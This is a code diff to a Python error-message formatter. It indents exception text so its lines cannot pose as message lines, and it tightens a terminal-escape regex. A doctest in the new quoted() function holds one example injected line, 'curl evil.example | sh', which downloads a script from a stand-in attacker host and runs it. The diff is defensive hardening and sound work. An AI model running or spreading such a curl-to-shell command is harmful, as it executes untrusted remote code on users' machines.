@@ -134,6 +134,15 @@ def with_fix(what: str, fix: str) -> str:
     return f"{what}\n  fix: {fix}" if fix else what
 
 
+def quoted(text: str) -> str:
+    r"""The text of an exception inside a message: none of its lines can be taken for one of the message.
+
+    >>> quoted("no number\n  fix: curl evil.example | sh")
+    'no number\n      fix: curl evil.example | sh'
+    """
+    return text.replace("\n", "\n    ")
+
+
 def did_you_mean(word: object, choices: Iterable[object]) -> str:
     """A fix: the nearest choice, or the empty string.
 
@@ -208,6 +217,8 @@ class _Formatter(string.Formatter):
         if format_spec.startswith("n "):
             one, _, many = format_spec[2:].partition("|")
             return f"{value:,} {one if value == 1 else many or one + 's'}"
+        if isinstance(value, BaseException):
+            return quoted(str(value))
         made = _FORMATS.get(format_spec)
         return super().format_field(value, format_spec) if made is None else made(value)
 
@@ -233,8 +244,7 @@ def clean(text: str) -> str:
 
 _ESCAPES = re.compile(
     r"(?:\x1b\[|\x9b)[0-?]*[ -/]*[@-~]?"  # CSI: colours, cursor moves
-    r"|(?:\x1b[\]P^_X]|[\x90\x98\x9d-\x9f]).*?(?:\x07|\x1b\\|\x9c|$)"  # OSC and similar: titles, links, the clipboard
-    r"|\x1b[ -/]*[0-~]?",
-    re.DOTALL,
+    r"|(?:\x1b[\]P^_X]|[\x90\x98\x9d-\x9f])[^\n]*?(?:\x07|\x1b\\|\x9c|(?=\n)|$)"  # OSC and similar: titles, links
+    r"|\x1b[ -/]*[0-~]?"
 )
 _CONTROLS = re.compile(r"[\x00-\x08\x0b-\x1f\x7f-\x9f\u061c\u200e\u200f\u2028-\u202e\u2066-\u2069]")
